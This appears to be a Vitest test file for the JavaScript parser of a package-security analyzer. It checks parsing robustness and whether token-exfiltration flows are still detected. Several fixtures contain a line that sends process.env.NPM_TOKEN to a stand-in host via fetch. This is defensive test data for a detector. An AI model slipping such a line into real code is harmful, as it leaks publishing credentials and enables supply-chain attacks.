import { describe, expect, it } from "vitest";
import { isJsLike, MAX_NESTING, parseJs } from "../../../src/analyzers/js/parse.js";
import { analyze } from "./helpers.js";

describe("parsing", () => {
  it("parses plain JS with acorn, TS/JSX/Flow with Babel", () => {
    expect(parseJs("a.js", "const a = 1;").ast?.type).toBe("Program");
    expect(parseJs("a.ts", "const a: number = 1 as number; enum E { A }").ast?.type).toBe("Program");
    expect(parseJs("a.tsx", "const x = <div>{y as string}</div>;").ast?.type).toBe("Program");
    expect(parseJs("a.js", "const x = <b>hi</b>;").ast?.type).toBe("Program");
    expect(parseJs("a.js", "// @flow\nfunction f(x: number): string { return '' }").ast?.type).toBe("Program");
  });

  it("reports recovered errors and unreadable files without throwing", () => {
    const broken = parseJs("a.js", "function ( {{{");
    expect(broken.ast).toBeUndefined();
    expect(broken.problem).toMatch(/could not parse/);
  });

  it("skips declaration files", () => {
    expect(isJsLike("types/index.d.ts")).toBe(false);
    expect(isJsLike("src/index.mts")).toBe(true);
  });

  it("a file that does not parse is a ParseProblem and the rest of the package is analysed", async () => {
    const facts = await analyze({ "index.js": "fetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });", "broken.js": "if (" });
    expect(facts.parseProblems.map((p) => p.file)).toEqual(["broken.js"]);
    expect(facts.flows).toHaveLength(1);
    expect(facts.filesAnalyzed).toBe(1);
  });

  it("a big file is parsed by its tokens, not refused by its size: a 6.5 MB comment costs nothing", async () => {
    const facts = await analyze({ "index.js": "//" + "x".repeat(6.5 * 1024 * 1024) + "\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });" });
    expect(facts.parseProblems).toEqual([]);
    expect(facts.flows).toHaveLength(1);
  });

  it("a file over the token budget is reported, not parsed", () => {
    const parsed = parseJs("big.js", "var a = [" + "1,".repeat(100) + "];", 50);
    expect(parsed.ast).toBeUndefined();
    expect(parsed.problem).toMatch(/analysis budget exceeded \(more than 50 syntax tokens/);
  });

  it("survives deeply nested and very long code", async () => {
    const nested = "a(".repeat(MAX_NESTING) + ")".repeat(MAX_NESTING) + ";";
    const concat = "const s = " + Array.from({ length: 3000 }, (_, i) => `'p${i}'`).join(" + ") + ";";
    const facts = await analyze({ "index.js": `${nested}\n${concat}\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });` });
    expect(facts.flows).toHaveLength(1);
  });

  it("code nested beyond what the parsers handle is a ParseProblem for that file only", async () => {
    const facts = await analyze({ "index.js": "fetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });", "deep.js": "a(".repeat(5000) + ")".repeat(5000) });
    expect(facts.parseProblems.map((p) => [p.file, p.message])).toEqual([["deep.js", `could not parse: code nested deeper than ${MAX_NESTING} levels`]]);
    expect(facts.flows).toHaveLength(1);
  });

  it("the nesting limit is the same however warm the parsers are, and brackets in strings do not count", async () => {
    const arrows = (n: number) => "var t = " + "() => (".repeat(n) + "1" + ")".repeat(n) + ";";
    // 300 nested arrow bodies overflow a fresh parser's stack but not a warmed-up one: refused both ways.
    for (let i = 0; i < 3; i++) expect(parseJs("a.js", arrows(MAX_NESTING + 100)).problem).toBe(`could not parse: code nested deeper than ${MAX_NESTING} levels`);
    expect(parseJs("a.js", arrows(MAX_NESTING)).ast).toBeDefined();
    const strings = `var open = ${JSON.stringify("(".repeat(5000))}; // ${"[".repeat(5000)}\nvar re = /\\(/g;`;
    expect(parseJs("s.js", strings)).toMatchObject({ ast: expect.anything() });
    expect(parseJs("s.js", strings).problem).toBeUndefined();
  });

  it("never hangs on loops that do not terminate", async () => {
    const facts = await analyze({ "index.js": "let i = 0; while (true) { i++; }\nfor (;;) {}\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });" });
    expect(facts.flows).toHaveLength(1);
  });
});
